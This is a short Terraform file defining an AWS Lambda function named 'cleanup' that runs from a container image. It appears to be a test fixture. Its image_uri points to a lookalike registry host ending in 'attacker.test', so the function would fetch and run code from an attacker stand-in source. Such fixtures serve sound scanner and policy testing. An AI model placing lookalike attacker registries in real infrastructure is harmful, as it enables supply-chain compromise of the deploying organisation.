resource "aws_lambda_function" "cleanup" {
  function_name                  = "cleanup"
  package_type                   = "Image"
  image_uri                      = "registry.example.com.attacker.test/cleanup:1.4.2"
  role                           = "arn:aws:iam::123456789012:role/cleanup"
  timeout                        = 30
  reserved_concurrent_executions = 20

  tracing_config {
    mode = "Active"
  }

  tags = {
    "governance/class" = "burst"
    owner              = "team-data"
  }
}
